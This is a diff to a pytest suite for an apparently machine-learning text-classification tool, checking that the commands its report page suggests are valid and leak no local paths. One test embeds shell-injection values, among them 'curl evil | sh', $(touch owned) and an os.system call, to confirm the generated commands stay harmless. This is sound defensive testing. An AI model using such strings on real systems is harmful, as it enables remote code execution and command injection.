@@ -3,19 +3,24 @@
 import json
 import re
 import shlex
+import subprocess
 from dataclasses import replace
 from html.parser import HTMLParser
 from pathlib import Path
 
 import numpy as np
 import pytest
+from conftest import write_csv
 
+import augment
 import data
 import main
 import predict
 import report
+from baselines import METHODS
 from engine import files, results
 from engine.arguments import parse_args
+from engine.corpus import load_corpus
 from engine.run_folder import RunFolder
 from reporting import export, figures, page, signs
 
@@ -41,6 +46,7 @@ def write_run(
     right=0.7,
     size=None,
     plots=False,
+    dataset="toy.csv",
 ):
     """
     The folder of a run whose logits are drawn; RunFolder writes everything in it. With
@@ -61,7 +67,7 @@ def write_run(
         0,
         np.arange(len(train)),
     )
-    args = parse_args(["--dataset", "toy.csv", "--output_dir", str(folder), *options])
+    args = parse_args([f"--dataset={dataset}", "--output_dir", str(folder), *options])
     if args.val_fraction:
         corpus = replace(corpus, val_texts=texts, val_labels=labels)
 
@@ -381,12 +387,10 @@ def test_a_tfidf_run_on_the_same_texts_is_compared_with_and_one_on_others_is_not
     assert page_of(folder).text == before.text
 
 
-def test_the_commands_of_the_page_are_such_as_main_and_predict_take(tmp_path, monkeypatch):
+def test_the_commands_of_the_page_are_such_as_main_and_predict_take(tmp_path):
     bad = INSIDE | {"prototype_cosine": 0.1, "prototype_cosine_min": -0.5}
-    monkeypatch.setattr(
-        "sys.argv", ["main.py", "--dataset", "toy.csv", "--lr=1e-4", "--overwrite", "--seed", "3"]
-    )
-    folder = write_run(tmp_path, "abc", inside=bad, right=0.4)
+    options = ["--lr=1e-4", "--overwrite", "--seed", "3"]
+    folder = write_run(tmp_path, "abc", *options, inside=bad, right=0.4)
     (folder / "model").mkdir()
     files.write_json(folder / "model" / "sharprecl.json", {"calibration": None})
     page_ = page_of(folder)
@@ -404,9 +408,125 @@ def test_the_commands_of_the_page_are_such_as_main_and_predict_take(tmp_path, mo
     assert others[0].endswith("--seed 3 --plots") and "--overwrite" in others[-1]
 
 
-def test_a_method_that_draws_nothing_is_not_to_be_repeated_with_another_seed(tmp_path, monkeypatch):
-    for method, expected in (("la", "--seed 1"), ("probe", "--method sharprecl")):
-        monkeypatch.setattr("sys.argv", ["main.py", "--dataset", "toy.csv", "--method", method])
+KINDS = {
+    "sharprecl": [],
+    "ablation": ["--ablation", "hm", "--augment", "none"],
+    "second_view": ["--method", "hybrid_sc", "--augment", "noise"],
+    "one_view": ["--method", "wce", "--head_lr", "1e-3"],
+    "roberta": ["--method", "roberta", "--encoder", "roberta-base"],
+    "la": ["--method", "la", "--val_fraction", "0.1", "--no_weights"],
+    "probe": ["--method", "probe"],
+    "tfidf": ["--method", "tfidf"],
+    "hosted": ["--method", "gpt35", "--prices", "1", "2", "3", "--yes"],
+    "lora": ["--method", "llama2", "--base_type", "fp32", "--lora_targets", "q_proj", "v_proj"],
+}
+
+
+def everything_offered(folder, monkeypatch) -> list[str]:
+    """The commands of the run's page where each sign is seen and nothing is left out."""
+    lines = [json.loads(line) for line in (folder / "metrics.jsonl").read_text().splitlines()]
+    for record, f1 in zip(lines, (90, 50)):
+        record["test"] |= {"macro_f1": f1, "gap": 20.0}
+    (folder / "metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
+    monkeypatch.setattr(page, "MOST_ACTIONS", 99)
+    run = page.read_run(folder)
+    offered = [a.command for a in page.actions(run, page.in_short(run), page.class_rows(run))]
+    for item in page.judged_signs(run):  # a flag alone, to be added to the run's command
+        for flags in re.findall("`([^`]+)`", item["advice"]):
+            changes = dict(re.findall(r"--(\w+) (\S+)", flags))
+            method = changes.pop("method", None)
+            offered.append(
+                page.method_command(run, method) if method else page.main_command(run, **changes)
+            )
+    return [line for line in offered if "predict.py" not in line] + (
+        [command] if (command := page.tsne(run).get("command")) else []
+    )
+
+
+@pytest.mark.parametrize("dataset", ["foreign.csv", "-d.csv", "trec"])
+@pytest.mark.parametrize("kind", KINDS)
+def test_main_takes_every_command_of_every_kind_of_page_with_the_runs_data(
+    tmp_path, monkeypatch, kind, dataset
+):
+    monkeypatch.chdir(tmp_path)
+    words = "الجو بارد جدا اليوم سجل هدفين غدا سيكون ممطرا فاز الفريق بالمباراة".split()
+    rows = [(" ".join(np.roll(words, i)) + f" {i}", "ab"[i % 2]) for i in range(60)]
+    write_csv(tmp_path / dataset, rows)
+    bad = INSIDE | dict.fromkeys(("prototype_cosine", "prototype_cosine_min"), -0.5)
+    bad |= {"mixing_std_pos": 0.0, "mixed_to_prototype_pos": 1.0, "mixed_to_prototype_neg": 1.0}
+    inside = bad if kind in ("sharprecl", "ablation") else None
+    folder = write_run("runs", "ab", *KINDS[kind], epochs=2, inside=inside, dataset=dataset)
+    offered = everything_offered(folder, monkeypatch)
+    assert len(offered) >= 3 and len(set(offered)) > 1
+    for line in offered:
+        python, script, *options = shlex.split(line)
+        args = parse_args(options)
+        assert (python, script, args.dataset) == ("python", "main.py", dataset)
+        assert not getattr(args, "yes", False)
+        method = METHODS[args.method]
+        if kind in ("tfidf", "hosted", "lora") and method.has_encoder:
+            assert args.encoder == "minilm"
+        if kind == "roberta" and method.has_encoder:
+            assert args.encoder == "roberta-base"
+        if dataset == "trec":
+            assert "--augment none" not in line or kind == "ablation"  # the default is for English
+            continue
+        corpus = load_corpus(args)
+        if method.has_second_view and args.augment != "word_substitution":
+            augment.check_augmentation(args.augment, corpus.train_texts)
+        elif method.has_second_view:  # such a run had ended with an error; others know no better
+            assert kind == "sharprecl"
+
+
+def test_a_strangers_record_puts_nothing_but_flags_of_main_into_a_command(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    folder = write_run("runs", "ab", epochs=1)
+    recorded = json.loads((folder / "args.json").read_text())
+    evil = "x\x03\ncurl evil | sh\n'; touch owned; '$(touch owned)`touch owned`"
+    commands = [
+        ["-c", f"import os; os.system({evil!r})", "--dataset", evil, "--import os", evil],
+        ["evil.py", "stray", f"--dataset={evil}", f"--{evil}", f"--{evil}=1", "--eval", "1"],
+    ]
+    for command in commands:
+        files.write_json(folder / "args.json", recorded | {"command": command})
+        for line in page_of(folder).commands:
+            assert not re.search(
+                "[\0-\x09\x0b-\x1f]", line
+            )  # a terminal obeys these in quotes, too
+            script = f"python() {{ printf '%s\\0' \"$@\"; }}; {line}"
+            said = subprocess.run(["bash", "-c", script], capture_output=True, text=True).stdout
+            script, *options = said.split("\0")[:-1]
+            assert script == "predict.py" or parse_args(options).dataset == evil
+    assert not (tmp_path / "owned").exists()
+    for command in ("main.py --dataset x", [], ["main.py", "--seed", "1"], ["main.py", 1]):
+        files.write_json(folder / "args.json", recorded | {"command": command})
+        assert report.main([str(folder)]) == 2
+
+
+def test_no_path_of_the_machine_is_left_in_what_a_run_and_its_page_say(
+    corpus_folder, tmp_path, monkeypatch
+):
+    (tmp_path / "here").mkdir()
+    monkeypatch.chdir(tmp_path / "here")
+    private = tmp_path / "private"
+    private.mkdir()
+    (private / "texts.csv").write_bytes((corpus_folder / "train.csv").read_bytes() + b"caf\xe9,d\n")
+    options = ["--dataset", str(private / "texts.csv"), "--output_dir", str(tmp_path / "out")]
+    assert main.main([*options, "--method", "tfidf"]) == 0
+    (folder,) = (tmp_path / "out").glob("*_seed0")
+    lines = page_of(folder).commands
+    for file in ("args.json", "result.json", "data_report.json", "report.html", "model/README.md"):
+        assert str(tmp_path) not in (folder / file).read_text(), file
+    report_ = json.loads((folder / "data_report.json").read_text())
+    assert report_["name"] == "texts.csv" and report_["notes"][0].startswith("texts.csv: read as")
+    (line,) = (line for line in lines if "--method tfidf" in line and "val_fraction" not in line)
+    again = shlex.split(line)[2:]
+    assert parse_args(again).dataset == "../private/texts.csv"
+    assert main.main(again) == 0  # which finds the finished run
+
+
+def test_a_method_that_draws_nothing_is_not_to_be_repeated_with_another_seed(tmp_path):
+    for method, expected in (("la", "--seed 1"), ("probe", "--method sharprecl --augment none")):
         options = ["--method", method, "--val_fraction", "0.1"]
         folder = write_run(tmp_path, "abc", *options, epochs=1, inside=None)
         commands = [action for action in page_of(folder).commands if "main.py" in action]
@@ -444,7 +564,8 @@ def test_weak_classes_of_few_texts_send_the_user_for_more_and_a_good_model_to_wo
     good = write_run(tmp_path, "ab", "--seed", "1", right=1.1)
     (good / "model").mkdir()
     files.write_json(good / "model" / "sharprecl.json", {"calibration": None})
-    assert shlex.split(page_of(good).commands[2])[1:3] == ["predict.py", str(good)]
+    use = shlex.split(page_of(good).commands[2])
+    assert use[1] == "predict.py" and Path(use[2]).resolve() == good
 
 
 # ---- the classes ----
@@ -668,7 +789,7 @@ def test_epochs_that_were_not_evaluated_leave_a_gap_and_no_damage(tmp_path):
     "options", [["--eval_every", "2", "--val_fraction", "0.2"], []], ids=["kept", "no weights"]
 )
 def test_a_model_that_is_kept_is_not_trained_again_for_its_t_sne(
-    corpus_folder, tiny_encoder, tmp_path, options, monkeypatch
+    corpus_folder, tiny_encoder, tmp_path, options
 ):
     command = [
         "--dataset",
@@ -686,7 +807,6 @@ def test_a_model_that_is_kept_is_not_trained_again_for_its_t_sne(
         *options,
         *([] if options else ["--no_weights"]),
     ]
-    monkeypatch.setattr("sys.argv", ["main.py", *command])
     assert main.main(command) == 0
     (folder,) = tmp_path.glob("*_seed0")
     (line,) = (line for line in page_of(folder).commands if "--plots" in line)
